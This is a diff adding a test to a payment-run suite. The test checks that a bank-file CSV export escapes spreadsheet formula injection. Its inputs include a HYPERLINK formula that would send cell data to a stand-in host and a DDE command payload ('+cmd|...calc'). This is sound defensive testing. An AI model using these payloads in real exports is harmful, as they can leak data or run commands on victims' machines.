@@ -183,6 +183,26 @@ describe.each(DIALECTS)('payment runs on %s', (dialect) => {
     expect((await call('POST', 'payment_run', { payment_ids: [accepted.id] })).statusCode).toBe(200);
   });
 
+  it('neutralises every bank file cell that a spreadsheet would read as a formula', async () => {
+    // details saved before the server checked their format, or a holder name (free text)
+    const hostile = await pendingPayment('=HYPERLINK("http://x.test/?"&C2,"Pay")');
+    await h.db
+      .updateTable('bank_accounts')
+      .set({ account_number: "+cmd|'/C calc'!A0", ifsc_code: '-2+3', paypal: '@SUM(1+1)' })
+      .where('user_id', '=', hostile.auditor.id)
+      .execute();
+    const tab = await pendingPayment('\t=1+1');
+    const run = (
+      await call('POST', 'payment_run', { payment_ids: [hostile.id, tab.id] })
+    ).json() as PaymentRun;
+    const csv = await call('GET', `payment_run/${run.id}/csv`);
+    expect(csv.body.trim().split('\n')).toEqual([
+      'reference,account_holder_name,account_number,ifsc_code,paypal,amount',
+      `${paymentReference(hostile.id)},"'=HYPERLINK(""http://x.test/?""&C2,""Pay"")",'+cmd|'/C calc'!A0,'-2+3,'@SUM(1+1),600.00`,
+      `${paymentReference(tab.id)},'\t=1+1,001234567890,HDFC0000123,,600.00`,
+    ]);
+  });
+
   it('refuses an empty run, unknown and settled payments, and keeps nothing of a refused run', async () => {
     const { id } = await pendingPayment();
     const runsBefore = await h.db.selectFrom('payment_runs').select('id').execute();
